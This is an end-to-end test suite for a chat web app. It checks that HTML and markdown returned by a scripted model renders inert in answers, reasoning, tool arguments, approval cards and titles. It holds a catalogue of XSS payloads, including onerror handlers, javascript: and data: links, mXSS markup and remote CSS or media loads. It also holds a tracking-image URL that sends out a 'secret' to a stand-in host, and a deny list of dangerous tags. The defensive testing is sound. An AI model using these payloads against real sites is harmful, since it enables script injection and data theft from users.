import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser, newChat, openPage, screenshot, sendMessage, waitForIdle, type WatchedPage } from '../support/browser';
import { ScriptedOllama, type ScriptedReply } from '../support/scripted-ollama';
import { currentTurn } from '../support/scripts';
import { Service } from '../support/service';

// Unroutable (TEST-NET-3): if the page ever asked for it, the request would be recorded.
const OUT = 'http://203.0.113.9';
const SET = (name: string) => `window.__xss='${name}'`;

/** Model outputs, each a way to run script or load something from elsewhere. */
const CASES: Record<string, { reply: ScriptedReply; visible?: string }> = {
	'img-onerror': { reply: { content: `Look: <img src=x onerror="${SET('img')}"> done` }, visible: 'Look:  done' },
	'script-tags': { reply: { content: `<script>${SET('script')}</script><script src="${OUT}/x.js"></script>Text after` }, visible: 'Text after' },
	'javascript-links': {
		reply: { content: `[click me](javascript:${SET('md-link')}) and <a href="javascript:${SET('a')}">raw</a> and <a href=" jAvAsCrIpT:${SET('a2')}">spaced</a>` }
	},
	'markdown-image': { reply: { content: `Chart: ![tracker](${OUT}/pixel.png?secret=conversation)` }, visible: 'Chart: 🖼 tracker' },
	'svg-onload': { reply: { content: `<svg onload="${SET('svg')}"><circle r="5"/><image href="${OUT}/s.png"/></svg> svg` } },
	iframe: {
		reply: { content: `<iframe src="${OUT}/frame" onload="${SET('iframe')}"></iframe><iframe srcdoc="<script>parent.${SET('srcdoc')}</script>"></iframe>framed` }
	},
	'style-attributes': {
		reply: {
			content: `<p style="background:url(${OUT}/bg.png)">styled</p><style>@import url(${OUT}/x.css); body{background:url(${OUT}/b.png)}</style><div style="position:fixed;inset:0">cover</div>`
		}
	},
	'data-urls': {
		reply: {
			content: `[data](data:text/html,<script>alert(1)</script>) <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b64</a> <object data="data:text/html,<script>alert(2)</script>"></object> ![i](data:image/svg+xml,<svg onload=alert(3)>)`
		}
	},
	'media-forms-and-more': {
		reply: {
			content: [
				`<video src="${OUT}/v.mp4" autoplay></video><audio src="${OUT}/a.mp3" autoplay></audio>`,
				`<form action="${OUT}/f"><input name="a" value="x"><button formaction="${OUT}/g">go</button></form>`,
				`<table background="${OUT}/t.png"><tr><td background="${OUT}/td.png">cell</td></tr></table>`,
				`<link rel="stylesheet" href="${OUT}/l.css"><meta http-equiv="refresh" content="0;url=${OUT}/"><base href="${OUT}/">`,
				`<details open ontoggle="${SET('toggle')}"><summary>s</summary>d</details>`,
				`<math><mtext><table><mglyph><style><img src=x onerror="${SET('mxss')}">`,
				`<a href="${OUT}/ok" ping="${OUT}/ping" target="_self">a plain link</a>`
			].join('\n\n')
		}
	},
	'html-in-thinking': { reply: { thinking: `<img src=x onerror="${SET('thinking')}"><script>${SET('thinking2')}</script>`, content: 'Thought about it.' } },
	'html-in-tool-results': {
		reply: {
			toolCalls: [
				{
					name: 'memory__create_entities',
					arguments: {
						entities: [
							{
								name: `<img src=x onerror="${SET('tool-name')}">`,
								entityType: `<script>${SET('tool-type')}</script>`,
								observations: [`<svg onload="${SET('tool-svg')}"></svg>`, `<iframe src="${OUT}/t"></iframe>`]
							}
						]
					}
				}
			]
		}
	},
	// A deletion waits for a person: the approval card shows the tool's arguments as the model wrote them.
	'html-in-approval': {
		reply: {
			toolCalls: [
				{
					name: 'memory__delete_entities',
					arguments: { entityNames: [`<img src=x onerror="${SET('approval-img')}">`, `<script>${SET('approval-script')}</script>`] }
				}
			]
		}
	},
	title: { reply: { content: 'A title made of HTML.' } }
};

// The whole first message becomes the title: it fits in the 50 characters a title keeps.
const TITLE = 'xss:title <img src=x onerror=alert(9)><b>bold</b>';

function script(): (request: Parameters<Parameters<typeof ScriptedOllama.start>[0]>[0]) => ScriptedReply {
	return (request) => {
		const { user, after } = currentTurn(request);
		const name = /xss:([\w-]+)/.exec(user)?.[1] ?? '';
		const reply = CASES[name]?.reply ?? { content: 'unknown case' };
		// A turn that called a tool gets a plain answer once the result is in.
		return after.some((m) => m.role === 'tool') ? { content: 'Saved.' } : reply;
	};
}

describe('untrusted output renders inert', () => {
	let ollama: ScriptedOllama;
	let service: Service;
	let browser: Browser;
	let watched: WatchedPage;

	beforeAll(async () => {
		ollama = await ScriptedOllama.start(script());
		service = await Service.start({ ollamaUrl: ollama.url, env: { OLLAMA_THINK: 'true' } });
		browser = await launchBrowser();
		watched = await openPage(browser, service.url);
		// A CSP violation of a fetch directive means the live page tried to load something that only
		// the CSP stopped: the sanitiser let it through. (Chromium also reports script-src-attr and
		// base-uri when it merely parses such markup into an inert document, as DOMPurify does, so
		// those two say nothing about what reached the page and are left out.)
		await watched.context.addInitScript(() => {
			const w = window as unknown as { __csp: string[] };
			w.__csp = [];
			document.addEventListener('securitypolicyviolation', (e) => {
				if (e.violatedDirective !== 'script-src-attr' && e.violatedDirective !== 'base-uri') {
					w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`);
				}
			});
		});
		await watched.page.reload();
	});
	afterAll(async () => {
		await watched?.context.close();
		await browser?.close();
		await service?.stop();
		await ollama?.close();
	});

	it.each(Object.keys(CASES))('%s: nothing runs and nothing is loaded from elsewhere', async (name) => {
		const { page } = watched;
		await newChat(page);
		await sendMessage(page, name === 'title' ? TITLE : `xss:${name}`);
		await waitForIdle(page);
		const messages = page.getByTestId('message-list');
		for (const summary of await messages.locator('summary').all()) await summary.click();

		expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
		expect(watched.dialogs).toEqual([]);
		expect(watched.pageErrors).toEqual([]);
		expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
		const origin = new URL(service.url).origin;
		expect(watched.requests.filter((url) => new URL(url).origin !== origin)).toEqual([]);

		// Everywhere untrusted text lands: answers, thinking, tool arguments and results, titles.
		const found = await page.evaluate(() => {
			const untrusted = [
				'assistant-message',
				'thinking-text',
				'tool-args',
				'tool-message',
				'approval-tool',
				'approval-args',
				'user-message',
				'conversation-title',
				'current-title'
			];
			const roots = untrusted.flatMap((id) => [...document.querySelectorAll(`[data-testid="${id}"]`)]);
			const all = roots.flatMap((root) => [root, ...root.querySelectorAll('*')]);
			const banned = all.filter((el) => /^(img|image|script|iframe|frame|object|embed|svg|math|style|video|audio|source|form|input|button|link|meta|base)$/i.test(el.tagName));
			const attrs = all.flatMap((el) =>
				[...el.attributes].filter((a) => /^on/i.test(a.name) || a.name === 'style' || a.name === 'background' || a.name === 'ping' || a.name === 'srcdoc').map((a) => `${el.tagName}[${a.name}]`)
			);
			const links = all.filter((el) => el.tagName === 'A').map((a) => ({ href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') }));
			return { banned: [...banned].map((e) => e.tagName), attrs, links };
		});
		expect(found.banned).toEqual([]);
		expect(found.attrs).toEqual([]);
		for (const link of found.links.filter((l) => l.href !== null)) {
			expect(link.href).toMatch(/^(https?:|mailto:)/);
			expect(link).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' });
		}

		const expected = CASES[name]!.visible;
		if (expected) expect((await page.getByTestId('assistant-message').last().textContent())?.trim()).toBe(expected);
		if (name === 'markdown-image') {
			expect(found.links).toContainEqual({ href: `${OUT}/pixel.png?secret=conversation`, target: '_blank', rel: 'noopener noreferrer nofollow' });
		}
		if (name === 'html-in-tool-results') {
			expect(await page.getByTestId('tool-message').textContent()).toContain('<img src=x onerror=');
			expect(await page.getByTestId('tool-args').textContent()).toContain('<script>');
		}
		if (name === 'html-in-approval') {
			expect(await page.getByTestId('approval-args').textContent()).toContain('<img src=x onerror=');
			expect(await page.getByTestId('approval-args').textContent()).toContain('<script>');
		}
		if (name === 'html-in-thinking') {
			expect(await page.getByTestId('thinking-text').textContent()).toContain('<img src=x onerror=');
		}
		if (name === 'title') {
			// Titles are text wherever they appear: the list, the header and the tab title.
			const item = page.getByTestId('conversation-item').first();
			expect(await item.getByTestId('conversation-title').textContent()).toBe(TITLE);
			expect(await page.getByTestId('current-title').textContent()).toBe(TITLE);
			expect(await page.title()).toBe(`${TITLE} · Sophos`);
			await page.getByTestId('delete-conversation-button').first().click();
			expect(await page.getByTestId('delete-dialog').textContent()).toContain('<b>bold</b>');
			await page.getByTestId('delete-cancel').click();
			await screenshot(page, 'xss-title');
		}
	});
});
